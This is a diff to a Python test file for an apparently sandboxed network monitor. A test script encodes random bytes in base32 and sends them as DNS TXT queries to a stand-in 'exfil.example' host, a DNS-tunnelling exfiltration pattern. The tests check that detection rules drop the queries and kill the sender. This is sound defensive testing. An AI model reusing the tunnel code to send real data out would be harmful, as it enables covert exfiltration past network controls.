@@ -341,49 +341,57 @@ def test_system_resolver_tools_work(tracer, net, eg_ep):
 DNS_TUNNEL = """
 import base64, os, socket, sys, time, errno
 from dnslib import DNSRecord, QTYPE
-target = sys.argv[1]
-if sys.argv[2] == 'registered':  # egress mode: wait until the stub knows the episode
-    deadline = time.monotonic() + 20
+target, mode = sys.argv[1], sys.argv[2]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+deadline = time.monotonic() + 20
+if mode == 'registered':  # egress mode: wait until the stub knows the episode
     while time.monotonic() < deadline:
         try:
             socket.getaddrinfo('allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)
             break
         except OSError:
             time.sleep(0.05)
-deadline = time.monotonic() + 20
+elif mode == 'probe':  # no profile: wait until a plain query may leave (not registered yet: held)
+    while time.monotonic() < deadline:
+        try:
+            s.sendto(DNSRecord.question('ready.probe.example').pack(), (target, 53))
+            break
+        except OSError:
+            time.sleep(0.05)
 sent, errs = 0, []
 chunk = os.urandom(60)
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for i in range(30):
     label = base64.b32encode(chunk[:35] + bytes([i])).decode().rstrip('=').lower()
     q = DNSRecord.question(label + '.t.exfil.example', 'TXT')
-    while True:
-        try:
-            s.sendto(q.pack(), (target, 53)); sent += 1; break
-        except OSError as e:
-            errs.append(e.errno)
-            if e.errno != errno.EPERM or time.monotonic() > deadline or sys.argv[2] != 'retry':
-                break
-            time.sleep(0.05)  # not registered yet (held in egress mode until it is)
-print(sent, set(errs))
+    try:
+        s.sendto(q.pack(), (target, 53)); sent += 1
+    except OSError as e:
+        errs.append(e.errno)
+    time.sleep(0.01)
+print(sent, set(errs), flush=True)
 sys.exit(0 if sent else 1)
 """
 
 
-def test_dns_tunnel_raises_rules_outside_egress_mode(tracer, net, plain_ep, tmp_path):
-    """An episode in no profile: base32 TXT queries straight to an outside
-    host's port 53 are not refused in the kernel (egress mode is off for it)
-    but the datagram rules see them in the packet path: foreign resolver,
-    tunnel-shaped labels (the sender is killed)."""
+def test_dns_tunnel_dropped_and_killed_outside_egress_mode(tracer, net, plain_ep, tmp_path):
+    """An episode in no profile: egress mode does not refuse its DNS to an
+    outside host, but the packet path reads every DNS datagram: base32 TXT
+    queries (labels of 56 characters) are dropped before they leave (the
+    enforcing `dns-tunnel-labels` rule), the sender is killed, and the DNS
+    sink gets nothing; the benign probe query before them went out."""
     script = tmp_path / "tun.py"
     script.write_text(DNS_TUNNEL)
-    res = run_in_episode(plain_ep, [PY, str(script), net.h.addr_b, "retry"], timeout=60)
+    res = run_in_episode(plain_ep, [PY, str(script), net.h.addr_b, "probe"], timeout=60)
     for rule in ("dns-foreign-resolver", "dns-tunnel-labels"):
         a = tracer.expect_alert(plain_ep, rule, timeout=20)
         assert a["addr"] == net.h.addr_b and a["port"] == 53
     k = tracer.expect_alert(plain_ep, "dns-tunnel-labels")
     assert k["action"] == "kill" and k["enforced"] is True
+    d = tracer.find(type="datagram", episode=plain_ep, dns_label_max=lambda n: (n or 0) >= 40)
+    assert d and all(x["dropped"] for x in d)
     assert res.exit_code != 0, res
+    assert wait_for(lambda: net.queries("probe.example"), 10), "the benign query did not go out"
+    assert net.queries("exfil.example") == [], "a tunnel query reached the DNS sink"
 
 
 TXT_FLOOD = """
